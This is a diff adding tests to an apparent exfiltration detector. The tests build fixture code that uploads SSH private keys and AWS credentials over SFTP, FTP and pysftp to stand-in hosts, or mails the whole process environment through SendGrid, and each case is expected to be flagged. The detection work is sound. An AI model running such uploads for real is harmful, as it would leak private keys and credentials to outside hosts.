@@ -101,6 +101,44 @@ await t.sendMail({ from: 'a@relaymail.example', to: process.argv[2], subject: 'x
   });
 });
 
+describe('more clients: SFTP and FTP clients that learn their host when they connect, SendGrid, pysftp', () => {
+  it('blocks a private key put over ssh2-sftp-client or basic-ftp, not a build', () => {
+    const sftp = (local: string) => `import Client from 'ssh2-sftp-client';
+import { homedir } from 'node:os';
+const sftp = new Client();
+await sftp.connect({ host: 'files.deploybox.example', username: 'u', password: 'p' });
+await sftp.put(${local}, '/in/x');
+`;
+    expect(blocking(js(sftp("homedir() + '/.ssh/id_rsa'")))).toContain('credential-exfiltration');
+    expect(blocking(js(sftp("'dist/app.zip'")))).toEqual([]);
+    const ftp = (local: string) => `import { Client } from 'basic-ftp';
+import { homedir } from 'node:os';
+const c = new Client();
+await c.access({ host: 'ftp.deploybox.example', user: 'u', password: 'p' });
+await c.uploadFrom(${local}, 'x');
+`;
+    expect(blocking(js(ftp("homedir() + '/.aws/credentials'")))).toContain('credential-exfiltration');
+    expect(blocking(js(ftp("'public/index.html'")))).toEqual([]);
+  });
+
+  it('blocks the environment mailed through SendGrid or a key put with pysftp, not a message or a build', () => {
+    const sg = (text: string) => `import sgMail from '@sendgrid/mail';
+sgMail.setApiKey(process.env.SENDGRID_API_KEY);
+await sgMail.send({ to: 'ops@example.org', from: 'bot@example.org', subject: 'x', text: ${text} });
+`;
+    expect(blocking(js(sg('JSON.stringify(process.env)')))).toContain('credential-exfiltration');
+    expect(blocking(js(sg("'nightly build passed'")))).toEqual([]);
+    const pysftp = (local: string) => `import os
+import pysftp
+
+with pysftp.Connection("files.deploybox.example", username="u", password="p") as c:
+    c.put(${local})
+`;
+    expect(blocking(py(pysftp('os.path.expanduser("~/.ssh/id_ed25519")')))).toContain('credential-exfiltration');
+    expect(blocking(py(pysftp('"dist/site.tar.gz"')))).toEqual([]);
+  });
+});
+
 describe('the temporary folder is a known place', () => {
   it('blocks a download saved in the temporary folder and run, in Python and in Node', () => {
     expect(blocking(py(`import os
